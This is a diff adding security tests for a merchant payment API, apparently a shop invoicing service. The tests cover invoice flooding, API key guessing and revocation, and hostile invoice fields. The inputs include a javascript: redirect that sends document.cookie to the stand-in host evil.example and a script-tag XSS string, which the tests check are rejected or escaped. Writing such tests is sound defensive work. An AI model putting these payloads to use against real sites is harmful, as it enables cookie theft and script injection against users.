@@ -201,6 +201,64 @@ describe('someone who saw the QR code', () => {
   })
 })
 
+describe("someone on the internet against the shop's API", () => {
+  // A fresh shop without a chain: these attacks need only its HTTP app and its store.
+  const fresh = (options: { maxOpenInvoices?: number } = {}) =>
+    createMerchant({ viewingKey: exportViewingKey(shopKeys(), 'incoming', 'testnet'), sequencerUrl: 'http://127.0.0.1:9', publicClient: devnet.publicClient, rollupAddress: devnet.rollup, fromBlock: devnet.deployBlock, ...options })
+  const create = (app: ReturnType<typeof createMerchantApp>, body: unknown, key?: string) =>
+    app.request('/invoices', { method: 'POST', headers: { 'content-type': 'application/json', ...(key ? { authorization: `Bearer ${key}` } : {}) }, body: JSON.stringify(body) })
+
+  it('an attacker floods the shop with invoices: without a key every attempt is 401 and nothing is stored; with a leaked key, the open-invoice limit and the lifetime cap hold', async () => {
+    const m = fresh({ maxOpenInvoices: 5 })
+    try {
+      const app = createMerchantApp(m)
+      const { id, key } = m.createApiKey()
+      for (const guess of [undefined, 'zkpmk_guess', `${key.slice(0, -1)}${key.endsWith('A') ? 'B' : 'A'}`]) {
+        const res = await create(app, { amount: '1', expiresIn: 60 }, guess)
+        expect([res.status, ((await res.json()) as { code: string }).code]).toEqual([401, 'UNAUTHORIZED'])
+        expect((await app.request('/invoices', guess ? { headers: { authorization: `Bearer ${guess}` } } : {})).status).toBe(401)
+      }
+      expect(m.listInvoices()).toHaveLength(0)
+      const statuses: number[] = []
+      for (let i = 0; i < 8; i++) statuses.push((await create(app, { amount: '1', expiresIn: 60 }, key)).status)
+      expect(statuses).toEqual([201, 201, 201, 201, 201, 429, 429, 429])
+      const year = await create(app, { amount: '1', expiresIn: 366 * 24 * 3600 }, key)
+      expect([year.status, ((await year.json()) as { message: string }).message]).toEqual([400, expect.stringContaining('`expiresIn`')])
+      // The shop revokes the leaked key: it opens nothing any more.
+      m.revokeApiKey(id)
+      expect((await create(app, { amount: '1', expiresIn: 60 }, key)).status).toBe(401)
+    } finally {
+      await m.close()
+    }
+  })
+
+  it("a compromised shop backend plants a javascript: redirect, an oversized metadata or markup in the invoice text: refused, or shown escaped on the payer's checkout page", async () => {
+    const m = fresh()
+    try {
+      const app = createMerchantApp(m)
+      const { key } = m.createApiKey()
+      for (const bad of [{ redirectUrl: 'javascript:fetch("//evil.example/"+document.cookie)' }, { redirectUrl: 'JaVaScRiPt:alert(1)' }, { metadata: { pad: 'x'.repeat(5_000) } }]) {
+        const res = await create(app, { amount: '1', expiresIn: 60, ...bad }, key)
+        expect(res.status, JSON.stringify(bad).slice(0, 60)).toBe(400)
+        await expect(m.createInvoice({ amount: 1n, expiresIn: 60, ...bad })).rejects.toMatchObject({ code: 'INVALID_PARAMETER' })
+      }
+      expect(m.listInvoices()).toHaveLength(0)
+      const markup = `"><script>alert(1)</script>`
+      const res = await create(app, { amount: '1', expiresIn: 60, label: markup, message: markup, redirectUrl: `https://shop.example/ok?q=${markup}` }, key)
+      const { id } = (await res.json()) as { id: string }
+      const page = await app.request(`/checkout/${id}`)
+      const html = await page.text()
+      expect(html).not.toContain('<script>alert(1)')
+      expect(html).toContain('&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;')
+      // Exactly one script, the page's own, allowed by its nonce only.
+      expect(html.match(/<script/g)).toHaveLength(1)
+      expect(page.headers.get('content-security-policy')).toMatch(/default-src 'none'; script-src 'nonce-/)
+    } finally {
+      await m.close()
+    }
+  })
+})
+
 describe('a merchant watching the account it is paid to', () => {
   /** Every output on L1 that `key` opens (zero-value padding included), in chain order. */
   async function seenOnL1(key: ViewingKey) {
